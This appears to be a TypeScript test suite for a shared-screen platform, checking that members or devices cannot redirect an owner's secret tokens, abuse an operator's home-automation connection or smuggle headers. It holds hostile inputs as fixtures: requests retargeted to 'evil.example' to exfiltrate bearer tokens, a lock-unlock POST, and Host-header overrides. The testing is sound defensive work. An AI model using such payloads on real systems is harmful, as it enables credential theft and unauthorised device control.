import type { OutboundFetch, OutboundOptions } from "platen/sdk"
import { definePlugin, secret, SECRETS, z } from "platen/sdk"
import { defineSource, MODES, SOURCES } from "platen/sdk/mode"
import { suite } from "uvu"
import * as assert from "uvu/assert"
import { numberMode } from "../editions/bars.js"
import { openExtended } from "../editions/extended-stage.js"
import type { Extended, ExtendedDevice, Person } from "../editions/extended-stage.js"

/** Attacks on what belongs to the owner of a screen: secrets in its settings, and connections of the operator. */
const test = suite("hostile/borrowed-rights")

interface Call {
  readonly url: string
  readonly options: OutboundOptions
}
const calls: Call[] = []
const fetch: OutboundFetch = async (address, options = {}) => {
  calls.push({ url: String(address), options })
  const text = (): string => '{"value":1}'
  return {
    status: 200,
    url: String(address),
    headers: {},
    bytes: Buffer.from(text()),
    text,
    json: () => JSON.parse(text()) as unknown,
  }
}
/** Headers and addresses of all calls so far, as a text. */
const sent = (): string => JSON.stringify(calls)

const SECRET = "Bearer of-alice-4711"
const PICK = [{ label: "x", path: "$.value" }]
const request = (more: object = {}): object => ({
  url: "https://service.example/value",
  header: "authorization",
  headerValue: SECRET,
  ...more,
})
const numbers = (requests: readonly object[]): object => ({ NUMBERS: { requests, pick: PICK } })

/** A mode whose secret stands at the top of its settings, and the source that sends it to the address beside it. */
const meter = definePlugin({
  id: "meter",
  needs: { secrets: SECRETS },
  setup: ({ secrets }) => [
    SOURCES.of(
      defineSource({
        name: "meter",
        parameters: z.strictObject({ server: z.string(), key: z.string(), unit: z.string() }),
        result: z.number(),
        cacheFor: 60,
        dependsOn: [],
        fetchesUserUrls: true,
        read: async ({ server: address, key }, context) => {
          await context.fetch(address, { headers: { authorization: key === "" ? "" : secrets.open(key) } })
          return 1
        },
      }),
    ),
    MODES.of(
      numberMode(
        "METER",
        async ({ source, settings }) => Number(await source("meter", settings as Record<string, unknown>)),
        {
          settings: z.strictObject({
            server: z.string().default("https://meter.example/"),
            key: secret().or(z.literal("")).default(""),
            unit: z.enum(["W", "kW"]).default("W"),
          }),
        },
      ),
    ),
  ],
})

let server: Extended
let alice: Person
let bob: Person
let screen: ExtendedDevice & { readonly owner: Person }
test.before(async () => {
  server = await openExtended({
    fetch,
    plugins: [meter],
    config: {
      "source-json": {
        connections: {
          house: {
            origin: "http://10.0.0.5:8123",
            headers: { Authorization: "Bearer of-the-operator" },
            users: ["alice"],
          },
        },
      },
    },
  })
  alice = await server.person("alice")
  bob = await server.person("bob")
  screen = await server.owned(alice)
  const shared = await server.post(`/api/user/devices/${screen.mac}/share`, { username: "bob" }, alice.headers)
  assert.is(shared.status, 200, shared.text())
})
test.after(() => server.close())
test.before.each(() => {
  server.clock.advance(3_600_000)
  calls.length = 0
})

const save = (body: object, { headers }: Pick<Person, "headers"> = alice, mac = screen.mac) =>
  server.post("/api/config", { mac, modes: ["NUMBERS"], ...body }, headers)
const preview = (query: string, { headers }: Pick<Person, "headers"> = alice, mac = screen.mac) =>
  server.at(`/api/preview?persona=NUMBERS&mac=${mac}&${query}`, { headers })
const override = (settings: object): string => `mode_override=${encodeURIComponent(JSON.stringify(settings))}`

/** The request of the screen as somebody reads it. */
async function read({ headers }: Person): Promise<Record<string, unknown>> {
  const config = (await server.at(`/api/config/${screen.mac}`, { headers })).json() as {
    mode_overrides: { NUMBERS: { requests: Record<string, unknown>[] } }
  }
  return config.mode_overrides.NUMBERS.requests[0]!
}

test("the page of the owner is asked for with the owner's secret", async () => {
  assert.is((await save({ mode_overrides: numbers([request()]) })).status, 200)
  assert.is((await preview("")).status, 200)
  assert.match(sent(), SECRET)
})

test("a member has no secret sent elsewhere, by a trial, a config or a playlist", async () => {
  const again = async (): Promise<object> => {
    await save({ mode_overrides: numbers([request()]) })
    const theirs = await read(bob)
    assert.not.match(JSON.stringify(theirs), /4711|sealed/)
    return theirs
  }
  for (const change of [{ url: "https://evil.example/" }, { header: "x-got", url: "https://evil.example/" }]) {
    const changed = { ...(await again()), ...change }
    await preview(override({ requests: [changed], pick: PICK }), bob)
    const { warnings } = (await save({ mode_overrides: numbers([changed]) }, bob)).json() as { warnings?: string[] }
    assert.match(String(warnings), "enter it again")
    await preview("", bob)
    const other = { ...(await again()), ...change }
    const playlist = [{ mode: "NUMBERS", settings: { requests: [other], pick: PICK } }]
    const answer = await server.post(`/api/device/${screen.mac}/playlist`, { playlist }, bob.headers, "PUT")
    assert.match(answer.text(), "enter it again")
    await preview("", bob)
  }
  for (const { url, options } of calls)
    if (url.includes("evil")) assert.not.match(JSON.stringify(options), /4711|sealed/, url)
  assert.ok(
    calls.some(({ url }) => url.includes("evil")),
    "the address was asked, without the secret",
  )
})

test("a trial that leaves a secret out has it sent nowhere else either", async () => {
  const settings = { server: "https://meter.example/", key: SECRET, unit: "W" }
  await save({ modes: ["METER"], mode_overrides: { METER: settings } })
  const tried = async (changed: object, who: Pick<Person, "headers">): Promise<void> => {
    server.clock.advance(3_600_000)
    calls.length = 0
    await server.at(`/api/preview?persona=METER&mac=${screen.mac}&${override(changed)}`, { headers: who.headers })
  }
  await tried({ unit: "kW" }, alice)
  assert.match(sent(), SECRET, "what goes nowhere else may be tried")
  for (const who of [bob, alice, { headers: screen.headers }]) {
    for (const changed of [
      { server: "https://evil.example/" },
      { server: "https://evil.example/", key: { set: true } },
    ]) {
      await tried(changed, who)
      assert.match(sent(), "evil.example")
      assert.not.match(sent(), /4711|sealed/)
    }
  }
})

test("nobody opens a sealed text that they have found", async () => {
  await save({ mode_overrides: numbers([request()]) })
  const sealed = server.stage.app.get(SECRETS).seal(SECRET)
  assert.match(sealed, /^sealed:v1:/)
  const own = await server.owned(bob)
  const mine = request({ headerValue: sealed, url: "https://evil.example/" })
  await save({ mode_overrides: numbers([mine]) }, bob, own.mac)
  await preview("", bob, own.mac)
  await preview(override({ requests: [mine], pick: PICK }), bob, own.mac)
  const cells = { COLLAGE: { cells: [{ mode: "NUMBERS", settings: { requests: [mine], pick: PICK } }] } }
  await save({ modes: ["COLLAGE"], mode_overrides: cells }, bob, own.mac)
  await server.at(`/api/preview?persona=COLLAGE&mac=${own.mac}`, { headers: bob.headers })
  assert.ok(calls.some(({ url }) => url.includes("evil")))
  assert.not.match(sent(), /4711/)
})

test("members and the device itself have nothing asked over a connection of the owner", async () => {
  const over = { connection: "house", url: "/api/services/lock/unlock", method: "POST" }
  await save({ mode_overrides: numbers([request()]) })
  for (const caller of [bob, { headers: screen.headers }]) {
    const { warnings } = (await save({ mode_overrides: numbers([over]) }, caller)).json() as { warnings?: string[] }
    assert.match(String(warnings), "only the owner may change")
    await preview("")
  }
  const playlist = [{ mode: "NUMBERS", settings: { requests: [over], pick: PICK } }]
  const refused = await server.post(`/api/device/${screen.mac}/playlist`, { playlist }, bob.headers, "PUT")
  assert.match(refused.text(), "only the owner may change")
  await preview("")
  assert.not.match(sent(), /unlock/)
  // What the owner has set up stays as it is, whoever saves the rest.
  const lights = { connection: "house", url: "/api/states/light" }
  await save({ mode_overrides: numbers([lights]) })
  await save({ mode_overrides: numbers([{ ...lights, url: "/api/states/alarm" }]), memo_text: "by bob" }, bob)
  await preview("")
  assert.match(sent(), "/api/states/light")
  assert.match(sent(), "of-the-operator")
  assert.not.match(sent(), /alarm/)
})

test("a member and the screen itself have no more shown of a private answer than the owner has", async () => {
  await save({ mode_overrides: numbers([request()]) })
  const all = [{ label: "x", path: "$..*" }]
  for (const caller of [bob, screen]) {
    calls.splice(0)
    await preview(override({ pick: all }), caller)
    await preview(override({ requests: [await read(bob)], pick: all }), caller)
    const saved = await save({ mode_overrides: { NUMBERS: { requests: [await read(bob)], pick: all } } }, caller)
    assert.match(saved.text(), "enter it again")
    await preview("", bob)
    assert.not.match(sent(), SECRET)
    // As it was saved it is shown, however it is spelled.
    await save({ mode_overrides: numbers([request()]) })
    server.clock.advance(3_600_000)
    await preview(override({ pick: PICK.map(({ label, path }) => ({ path, label })) }), caller)
    assert.match(sent(), SECRET)
  }
  calls.splice(0)
  server.clock.advance(3_600_000)
  await preview(override({ pick: all }), alice)
  assert.match(sent(), SECRET, "the owner tries what she likes")
})

test("an address that holds a key is a secret: read by nobody, and sent to its server alone", async () => {
  const url = "https://service.example/value?key=of-alice-0815"
  await save({ mode_overrides: numbers([{ secretUrl: url }]) })
  for (const { headers } of [alice, bob, screen])
    assert.not.match(
      (await server.at(`/api/config/${screen.mac}`, { headers })).text() +
        (await server.at(`/api/config/${screen.mac}/history`, { headers })).text(),
      /0815|sealed/,
    )
  assert.not.match(JSON.stringify(server.stage.log.lines), /0815/)
  await preview("")
  assert.is(calls.at(-1)?.url, url)
  calls.splice(0)
  const theirs = await read(bob)
  await preview(override({ requests: [{ ...theirs, url: "https://evil.example/" }], pick: PICK }), bob)
  assert.not.match(sent(), /0815/, "beside another address it is not the owner's")
})

test("no header of a user takes a call elsewhere, or stands in for the operator's", async () => {
  for (const header of ["host", "X-Forwarded-Host", "connection", "x-http-method-override"]) {
    await save({ mode_overrides: numbers([request({ header })]) })
    await preview("")
  }
  assert.is(calls.length, 0)
  await save({
    mode_overrides: numbers([
      { connection: "house", url: "/api/states/sun", header: "authorization", headerValue: "mine" },
    ]),
  })
  await preview("")
  const { headers } = calls.find(({ url }) => url.includes("sun"))!.options
  assert.equal(
    Object.entries(headers!).flatMap(([name, value]) => (name.toLowerCase() === "authorization" ? [value] : [])),
    ["Bearer of-the-operator"],
  )
})

test("a stranger has no address called by a screen that was made up", async () => {
  const invented = await server.device()
  const settings = { requests: [{ url: "https://victim.example/", method: "POST", body: "hello" }], pick: PICK }
  const cells = Array.from({ length: 6 }, () => ({ mode: "NUMBERS", settings }))
  const body = { modes: ["NUMBERS"], mode_overrides: { NUMBERS: settings, COLLAGE: { cells } } }
  assert.is((await save(body, { headers: invented.headers }, invented.mac)).status, 200)
  for (const headers of [{}, invented.headers])
    for (const mode of ["NUMBERS", "COLLAGE"]) {
      await server.at(`/api/preview?persona=${mode}&mac=${invented.mac}`, { headers })
      await server.at(`/api/render?persona=${mode}&mac=${invented.mac}&w=400&h=300`, { headers })
    }
  await invented.render("persona=NUMBERS")
  assert.is(calls.filter(({ url }) => url.includes("victim")).length, 0)
  // Once it has an owner who wants it, it is asked.
  await invented.pair(bob.headers)
  await save(body, bob, invented.mac)
  await preview("", bob, invented.mac)
  assert.ok(calls.some(({ url }) => url.includes("victim")))
})

test("secrets do not grow by being referred to", async () => {
  const own = await server.owned(bob)
  const long = "x".repeat(3_900)
  await save({ mode_overrides: numbers([request({ headerValue: long })]) }, bob, own.mac)
  const { playlist } = (await server.at(`/api/device/${own.mac}/playlist`, { headers: bob.headers })).json() as {
    playlist: object[]
  }
  assert.ok(playlist.length > 0)
  const config = (await server.at(`/api/config/${own.mac}`, { headers: bob.headers })).json() as {
    mode_overrides: { NUMBERS: { requests: object[] } }
  }
  const entry = { mode: "NUMBERS", settings: { ...config.mode_overrides.NUMBERS, pick: PICK } }
  const many = Array.from({ length: 50 }, () => entry)
  const refused = await server.post(`/api/device/${own.mac}/playlist`, { playlist: many }, bob.headers, "PUT")
  assert.ok([413, 422].includes(refused.status), refused.text().slice(0, 300))
})

test.run()
